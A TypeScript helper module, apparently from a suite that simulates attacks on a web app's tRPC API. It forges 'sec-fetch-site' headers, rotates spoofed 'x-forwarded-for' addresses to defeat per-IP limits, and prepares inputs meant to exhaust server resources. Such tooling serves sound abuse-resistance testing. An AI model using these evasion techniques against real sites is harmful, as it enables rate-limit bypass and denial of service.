/** What attackers know about the site they attack. */
export interface Target {
  origin: string
  /** `Cookie` headers of subscribers reserved for the attacker. */
  cookies: readonly string[]
  /** The `Cookie` header of an account with 180 bookmarks of 30 KB each. */
  collector: string
  /** An address with an account. */
  email: string
  productId: string
  /** Path of a picture that keeps the label reader busy for as long as possible. */
  pictureFile: string
}

let count = 0

/** A network no other request of this process comes from; the server trusts one proxy. */
export function newNetwork(): string {
  count += 1
  return `10.${(count >> 16) & 255}.${(count >> 8) & 255}.${count & 255}`
}

/** Address of a query with its input. */
export const queryPath = (procedure: string, input?: unknown): string =>
  `/api/trpc/${procedure}${input === undefined ? '' : `?input=${encodeURIComponent(JSON.stringify({ json: input }))}`}`

/** One request and its answer. */
export interface Call {
  path: string
  /** Body of a POST; omitted for a GET. */
  body?: string
  cookie?: string
  network?: string
}

/** Sends one request and reads its answer; returns the status, or 0 if there was no answer. */
export async function send(origin: string, { path, body, cookie, network }: Call): Promise<number> {
  try {
    const answer = await fetch(origin + path, {
      method: body === undefined ? 'GET' : 'POST',
      redirect: 'manual',
      headers: {
        'sec-fetch-site': 'same-origin',
        'x-forwarded-for': network ?? newNetwork(),
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        ...(cookie === undefined ? {} : { cookie }),
      },
      body,
    })
    await answer.arrayBuffer()
    return answer.status
  } catch {
    return 0
  }
}

/** Sends a call of a mutation. */
export const mutate = (
  origin: string,
  procedure: string,
  input: unknown,
  options: Omit<Call, 'path' | 'body'> = {},
): Promise<number> =>
  send(origin, { path: `/api/trpc/${procedure}`, body: JSON.stringify({ json: input }), ...options })
